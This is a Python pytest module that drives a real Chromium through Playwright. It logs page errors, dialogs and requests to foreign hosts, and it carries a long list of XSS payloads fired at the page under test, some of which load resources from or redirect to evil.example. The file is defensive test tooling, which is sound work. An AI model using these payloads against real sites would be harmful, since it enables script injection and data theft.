"""A real Chromium for tests: one per module, pages that keep book of what must not happen."""

from __future__ import annotations

import contextlib
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

CHROMIUM = Path("/usr/bin/chromium")
HINTS = ("WebGL", "willReadFrequently")  # the browser's advice on speed, about plotly's drawing and no fault of the page


@dataclass
class Book:
    """What a page did that it must never do."""

    page: Any
    own: str  # addresses that begin so are the page's own
    errors: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)

    def clean(self) -> None:
        assert not self.errors, self.errors
        assert not self.dialogs, self.dialogs
        assert not self.foreign, self.foreign

    def request(self, request: Any) -> None:
        if not request.url.startswith((self.own, "data:", "blob:")):
            self.foreign.append(request.url)

    def console(self, message: Any) -> None:
        if message.type in ("error", "warning") and not any(hint in message.text for hint in HINTS):
            self.errors.append(message.text)

    def dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()


@pytest.fixture(scope="module")  # not longer: while Playwright's driver lives, asyncio.run fails in this thread
def chromium() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    assert CHROMIUM.exists(), "browser tests need /usr/bin/chromium; `make browser` installs it"
    with sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox", "--disable-gpu"])
        yield browser
        browser.close()


@contextlib.contextmanager
def opened(chromium: Any, address: str, *, own: str | None = None, **context: Any) -> Iterator[Book]:
    """The page at `address`, in a context of its own."""
    wanted = {"viewport": {"width": 1100, "height": 800}} | context
    with contextlib.closing(chromium.new_context(**wanted)) as place:
        page = place.new_page()
        page.set_default_timeout(90_000)  # shared machines are slow at times; a sound page answers in milliseconds
        book = Book(page, own or address.partition("#")[0])
        page.on("request", book.request)
        page.on("console", book.console)
        page.on("pageerror", lambda error: book.errors.append(str(error)))
        page.on("dialog", book.dialog)
        page.goto(address)
        yield book


def overflows(page: Any) -> bool:
    """Whether the page is wider than the screen."""
    return bool(page.evaluate("document.documentElement.scrollWidth > document.documentElement.clientWidth + 1"))


# Strings that have broken pages: tags, attributes, script contexts, addresses, templates, encodings, CSS and reordering.
# `pwned` is what each of them would call.
XSS: tuple[str, ...] = (
    "<script>alert('pwned')</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "</script><script>alert('pwned')</script>",
    "</title><script>alert('pwned')</script>",
    "</style><script>alert('pwned')</script>",
    "</textarea><script>alert('pwned')</script>",
    "--><script>alert('pwned')</script><!--",
    "]]><script>alert('pwned')</script>",
    "<img src=x onerror=alert('pwned')>",
    "<img src=http://evil.example/p.png>",
    "<svg onload=alert('pwned')>",
    "<svg><script>alert('pwned')</script></svg>",
    "<svg><animate onbegin=alert('pwned') attributeName=x dur=1s>",
    "<body onload=alert('pwned')>",
    "<iframe src=javascript:alert('pwned')></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert('pwned')>",
    "<embed src=javascript:alert('pwned')>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('pwned')>",
    "<details open ontoggle=alert('pwned')>",
    "<input autofocus onfocus=alert('pwned')>",
    "<video><source onerror=alert('pwned')></video>",
    "<audio src=x onerror=alert('pwned')>",
    "<marquee onstart=alert('pwned')>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<form action=http://evil.example/><input type=submit autofocus>",
    "\"><script>alert('pwned')</script>",
    "'><script>alert('pwned')</script>",
    "\" onmouseover=alert('pwned') autofocus onfocus=alert('pwned') x=\"",
    "' onmouseover=alert('pwned') autofocus onfocus=alert('pwned') x='",
    "` onmouseover=alert('pwned') `",
    "x onerror=alert('pwned')",
    "javascript:alert('pwned')",
    "data:text/html,<script>alert('pwned')</script>",
    "vbscript:msgbox('pwned')",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert('pwned')}",
    "#{alert('pwned')}",
    "<%= alert('pwned') %>",
    "%3Cscript%3Ealert('pwned')%3C/script%3E",
    "&lt;script&gt;alert('pwned')&lt;/script&gt;",
    "&#60;script&#62;alert('pwned')&#60;/script&#62;",
    "\\u003cscript\\u003ealert('pwned')\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert('pwned')\\x3c/script\\x3e",
    "+ADw-script+AD4-alert('pwned')+ADw-/script+AD4-",
    "<scr\x00ipt>alert('pwned')</scr\x00ipt>",
    "<scr<script>ipt>alert('pwned')</scr</script>ipt>",
    "<<script>alert('pwned')//<</script>",
    "<a href=javascript:alert('pwned')>x</a>",
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "<div style=background:url(http://evil.example/c.png)>",
    "background:url(http://evil.example/c.png)",
    "</div></main></body><script>alert('pwned')</script>",
    "'; alert('pwned'); //",
    '"; alert("pwned"); //',
    "\\'; alert('pwned'); //",
    "\u2028alert('pwned')\u2029",
    "\u202e<script>alert('pwned')</script>",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "__proto__",
    "constructor",
    "toString",
    "<template><script>alert('pwned')</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<b>bold</b>",
    "%{x}<extra><img src=x onerror=alert('pwned')></extra>",
    "<br><img src=x onerror=alert('pwned')>",
    "<a href='http://evil.example'>plotly link</a>",
    "$\\href{javascript:alert(1)}{x}$",
    *(
        f"<{tag} on{event}=alert('pwned') tabindex=1 style=display:block>x</{tag}>"
        for tag in ("div", "a", "p", "table", "select", "button", "q/", "svg/x")
        for event in ("load", "error", "focusin", "pointerenter", "animationstart", "wheel")
    ),
)
